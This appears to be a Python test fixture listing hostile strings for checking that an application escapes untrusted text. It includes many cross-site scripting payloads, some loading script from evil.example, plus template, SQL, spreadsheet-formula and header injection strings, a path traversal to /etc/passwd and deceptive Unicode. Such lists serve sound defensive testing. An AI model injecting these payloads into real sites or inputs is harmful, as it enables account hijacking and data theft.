"""Texts that would do something where they are taken for anything but text."""

_RUN = "window.hit=1"

_MARKUP = (
    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT>", f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>", "<script src=//evil.example/x.js></script>",
    f"<<script>{_RUN}//<</script>", f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'", f"<IMG SRC=x OnErRoR={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>', f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<body onload={_RUN}>", f"<iframe src=javascript:{_RUN}>", f"<iframe srcdoc='<b onclick={_RUN}>'>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>",
    f"<math><mtext><script>{_RUN}</script>", f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<video><source onerror={_RUN}>", f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>", f"<form action=javascript:{_RUN}><button>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x>",
    "<style>body{display:none}</style>", "<template><b>x", "<plaintext>", "<!--", "<dialog open>x",
    f"<x hx-on:click={_RUN} hx-get=/logout hx-trigger=load>", "<b data-copy=content hidden>x",
)  # fmt: skip
_OTHERWISE = (
    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f"` onmouseover=`{_RUN}", f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>", f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", "data:text/html,<b>x",
    "{{ 7 * 7 }}{{ config }}", "{% raw %}{{ x }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n%x", "&lt;b&gt;&amp;amp;",
    f"\\u003cscript\\u003e{_RUN}", f"+ADw-script+AD4-{_RUN}", "'; DROP TABLE runs; --", "%' OR '1'='1",
    '=HYPERLINK("//evil.example")', "@SUM(1+1)", "[x](javascript:alert(1))", "![x](//evil.example/x.png)",
    "\u202egnp.exe\u202c", "\u200b\u200d\u2060", "\ufeffx", "a\u0301" * 20, "\U0001f469\u200d\U0001f680" * 6,
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd", "A" * 80, "../../etc/passwd", "\r\nSet-Cookie: x=1",
)  # fmt: skip
PAYLOADS = (*_MARKUP, *_OTHERWISE)
ALL = "\n".join(PAYLOADS)
